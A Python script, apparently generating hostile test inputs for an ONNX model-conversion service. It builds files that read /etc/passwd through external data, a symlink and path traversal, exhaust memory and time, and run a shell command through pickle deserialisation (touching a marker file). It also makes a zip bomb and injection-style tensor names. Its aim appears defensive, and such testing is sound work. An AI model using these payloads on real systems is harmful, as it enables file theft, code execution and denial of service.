"""Makes the files that models bring; run in the ONNX environment.

python make.py FOLDER
"""

import os
import pickle
import sys
import zipfile
from pathlib import Path

import numpy as np
from onnx import TensorProto, helper

folder = Path(sys.argv[1])
X = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 4])
OPSETS = [helper.make_opsetid("", 17)]


def save(name, nodes, output="y", initializers=(), shape=None):
    y = helper.make_tensor_value_info(output, TensorProto.FLOAT, shape or ["batch", 4])
    graph = helper.make_graph(nodes, "attack", [X], [y], list(initializers))
    model = helper.make_model(graph, opset_imports=OPSETS, ir_version=8)
    (folder / f"{name}.onnx").write_bytes(model.SerializeToString())


def external(name, location, dims, length):
    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=dims, data_location=TensorProto.EXTERNAL)
    for key, value in {"location": location, "offset": "0", "length": str(length)}.items():
        tensor.external_data.add(key=key, value=value)
    save(name, [helper.make_node("Add", ["x", "w"], ["y"])], initializers=[tensor])


def varint(number):
    encoded = bytearray()
    while number > 127:
        encoded.append(number & 127 | 128)
        number >>= 7
    return bytes((*encoded, number))


external("external-passwd", "/etc/passwd", [4], 16)
external("external-parent", "../../secret.bin", [4], 16)
os.symlink("/etc/passwd", folder / "leads-out.bin")
external("external-link", "leads-out.bin", [4], 16)
(folder / "small.bin").write_bytes(bytes(16))
external("claims-bytes", "small.bin", [2**58], 2**60)

claims = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2**30, 2**30], raw_data=bytes(16))
save("claims-elements", [helper.make_node("Add", ["x", "w"], ["y"])], initializers=[claims])

size = helper.make_tensor("size", TensorProto.INT64, [1], [2**40])
nodes = [
    helper.make_node("ConstantOfShape", ["size"], ["huge"]),
    helper.make_node("ReduceSum", ["huge"], ["sum"], keepdims=0),
    helper.make_node("Add", ["x", "sum"], ["y"]),
]
save("allocates", nodes, initializers=[size])

# From the inside: field 1 (node) of a GraphProto, 5 (attribute) of a NodeProto, 6 (g) of an AttributeProto.
parts, length = [], 0
for number in (6, 5, 1) * 100_000 + (7,):
    head = varint(number << 3 | 2) + varint(length)
    parts.append(head)
    length += len(head)
(folder / "deep-graph.onnx").write_bytes(b"\x08\x08" + b"".join(reversed(parts)))

chain = [helper.make_node("Identity", ["x" if i == 0 else f"t{i}"], [f"t{i + 1}"]) for i in range(100_000)]
save("long-graph", chain, output="t100000")

turns = helper.make_tensor("turns", TensorProto.INT64, [], [2**62])
true = helper.make_tensor("true", TensorProto.BOOL, [], [True])
body = helper.make_graph(
    [helper.make_node("Identity", ["go"], ["on"]), helper.make_node("Sin", ["v"], ["w"])],
    "body",
    [
        helper.make_tensor_value_info("i", TensorProto.INT64, []),
        helper.make_tensor_value_info("go", TensorProto.BOOL, []),
        helper.make_tensor_value_info("v", TensorProto.FLOAT, None),
    ],
    [
        helper.make_tensor_value_info("on", TensorProto.BOOL, []),
        helper.make_tensor_value_info("w", TensorProto.FLOAT, None),
    ],
)
save("endless-loop", [helper.make_node("Loop", ["turns", "true", "x"], ["y"], body=body)], initializers=[turns, true])

save("not-utf8", [helper.make_node("Identity", ["x"], ["yyyy"])], output="yyyy")
path = folder / "not-utf8.onnx"
path.write_bytes(path.read_bytes().replace(b"yyyy", b"\xff\xfe\xfd\xfc"))
for name, output in {"names-markup": "</details>@everyone|", "names-path": "../../planted"}.items():
    save(name, [helper.make_node("Identity", ["x"], [output])], output=output)

with zipfile.ZipFile(folder / "zip-bomb.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
    with archive.open("x.npy", "w", force_zip64=True) as member:
        np.lib.format.write_array_header_1_0(member, {"descr": "<f4", "fortran_order": False, "shape": (2**27, 4)})
        for _ in range(128):
            member.write(bytes(2**24))


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/onnx-convert-attack",))


np.save(folder / "array-of-objects.npy", np.array([[Bomb()] * 4], dtype=object), allow_pickle=True)
with (folder / "array-that-claims.npy").open("wb") as array:
    np.lib.format.write_array_header_1_0(array, {"descr": "<f4", "fortran_order": False, "shape": (2**58, 4)})
(folder / "pickle.pkl").write_bytes(pickle.dumps(Bomb()))
